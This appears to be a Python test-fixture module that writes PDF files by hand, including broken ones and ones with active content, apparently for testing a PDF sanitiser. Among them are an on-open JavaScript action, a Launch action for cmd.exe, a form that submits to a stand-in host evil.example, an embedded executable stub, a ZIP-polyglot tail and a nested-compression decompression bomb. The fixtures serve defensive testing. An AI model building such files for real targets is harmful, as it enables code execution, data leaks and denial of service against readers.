"""PDFs written by hand: plain ones, and ones that would like to do something."""

from __future__ import annotations

import zlib

RED_SQUARE = b"1 0 0 rg 20 20 60 60 re f"


def paper(
    *objects: bytes, pages: int = 1, size: str = "0 0 200 100", catalogue: bytes = b"", content: bytes = RED_SQUARE
) -> bytes:
    """Write a PDF with some pages and some objects beside them; the first of those is number 10."""
    kids = b" ".join(b"%d 0 R" % (100 + number) for number in range(pages))
    numbered = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
        2: b"<</Type/Pages/Count %d/Kids[%s]/MediaBox[%s]>>" % (pages, kids, size.encode()),
        3: b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
    }
    numbered |= {10 + number: body for number, body in enumerate(objects)}
    numbered |= {100 + number: b"<</Type/Page/Parent 2 0 R/Contents 3 0 R>>" for number in range(pages)}
    written, places = b"%PDF-1.7\n", {}
    for number, body in numbered.items():
        places[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(written)
    written += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, place) for number, place in places.items())
    return written + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (max(numbered) + 1, start)


def locked() -> bytes:
    """Claim an encryption whose password nobody gives."""
    entry = b"<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"00" * 32, b"11" * 32)
    whole = paper(entry)
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt 10 0 R/ID[<00><00>]")


def bomb() -> bytes:
    """Pack two hundred megabytes of drawing into a page of a few kilobytes."""
    packed = zlib.compress(zlib.compress(b"0 0 1 1 re f " * 16_000_000, 9), 9)
    head = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(packed), packed)
    whole = paper(head)
    return whole.replace(b"/Contents 3 0 R", b"/Contents 10 0 R")


SCRIPT = b"app.alert('opened')"
PAPERS = {
    "plain.pdf": paper(),
    "three pages.pdf": paper(pages=3),
    "script on opening.pdf": paper(b"<</S/JavaScript/JS(%s)>>" % SCRIPT, catalogue=b"/OpenAction 10 0 R"),
    "launches a program.pdf": paper(b"<</S/Launch/F(cmd.exe)>>", catalogue=b"/OpenAction 10 0 R"),
    "sends a form.pdf": paper(
        b"<</S/SubmitForm/F(http://evil.example/)>>", catalogue=b"/AcroForm<</Fields[]>>/AA<</WC 10 0 R>>"
    ),
    "opens an address.pdf": paper(b"<</S/URI/URI(http://evil.example/)>>", catalogue=b"/OpenAction 10 0 R"),
    "file inside.pdf": paper(
        b"<</Type/Filespec/F(evil.exe)/EF<</F 11 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 9>>stream\nMZevilexe\nendstream",
        catalogue=b"/Names<</EmbeddedFiles<</Names[(evil.exe)10 0 R]>>>>",
    ),
    "zip tail.pdf": paper() + b"PK\x03\x04evil.html<script>alert(1)</script>",
}
"""What is drawn, without what it would like to do."""

BROKEN_PAPERS = {
    "locked.pdf": locked(),
    "head only.pdf": b"%PDF-1.7",
    "no objects.pdf": b"%PDF-1.7\n%%EOF",
    "noise.pdf": b"%PDF-1.4\n" + bytes(range(256)) * 40,
    "no pages.pdf": paper(pages=0),
    "too many pages.pdf": paper(pages=21),
    "cut.pdf": paper()[:120],
}
